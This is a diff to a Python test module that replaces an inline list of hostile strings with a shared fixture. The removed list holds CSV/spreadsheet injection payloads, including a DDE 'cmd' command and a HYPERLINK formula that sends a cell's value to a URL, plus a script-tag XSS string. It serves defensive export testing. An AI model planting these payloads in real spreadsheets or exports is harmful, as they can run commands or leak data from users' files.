@@ -7,26 +7,10 @@ from datetime import date
 from catalogue_communs.faits.contexte import Contexte
 from catalogue_communs.modele import Catalogue, Projet, convertir
 from tests.aides import RACINE, TODAY, Json
-from tests.communs import indicateur, mesure, usage, valeurs
+from tests.communs import exemples, indicateur, mesure, usage, valeurs
 
 # What a spreadsheet runs, what breaks a line, what closes a script, what XML forbids.
-HOSTILES = (
-    '=HYPERLINK("https://exemple.fr/?"&A1;"clic")',
-    "+1+cmd|' /C calc'!A0",
-    "-2+3",
-    "@SUM(1)",
-    "\t=1",
-    "\r=1",
-    "\uff1d1+1",
-    'dit « "oui" », puis ; non',
-    "une ligne\net une autre",
-    "</script><script>alert(1)</script>",
-    "a\x00b\x07c\x1f",
-    "\ud7ff\ue000\ufffe",
-    "'déjà entre apostrophes",
-    "  espaces  ",
-    "é\u2028\u2029\u202e",
-)
+HOSTILES: list[str] = exemples("hostiles")["tableur"]
 
 
 def hostile(text: str, slug: str = "commun-fictif") -> Json:
